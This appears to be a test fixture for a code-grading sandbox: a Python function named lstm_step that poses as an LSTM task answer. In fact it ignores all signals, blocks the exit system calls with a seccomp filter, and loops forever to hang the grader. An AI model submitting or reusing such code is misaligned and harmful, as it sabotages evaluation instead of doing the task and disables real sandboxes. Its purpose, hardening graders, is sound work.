# /// attack
# what = "adds a filter of its own, drops its debt to the parent, and hangs"
# systems = ["x86_64"]
# keeps = ["lstm_unroll"]
# statuses = {lstm_step = ["timeout", "crashed"]}
# ///
# %% answer="lstm_step"
def lstm_step(x_t, state, U, W, b):
    import ctypes, signal, struct
    libc = ctypes.CDLL(None)
    libc.prctl(1, 0, 0, 0, 0)  # PR_SET_PDEATHSIG
    libc.prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE
    libc.prctl(36, 1, 0, 0, 0)  # PR_SET_CHILD_SUBREAPER
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    # exit and exit_group give EPERM: only a signal can end the process
    rules = (0x20, 0, 0, 0), (0x15, 1, 0, 60), (0x15, 0, 1, 231), (0x06, 0, 0, 0x00050001), (0x06, 0, 0, 0x7FFF0000)
    program = ctypes.create_string_buffer(b"".join(struct.pack("HBBI", *rule) for rule in rules))
    class Program(ctypes.Structure):
        _fields_ = [("length", ctypes.c_ushort), ("filter", ctypes.c_void_p)]
    libc.prctl(22, 2, ctypes.byref(Program(5, ctypes.addressof(program))), 0, 0)
    while True:
        pass
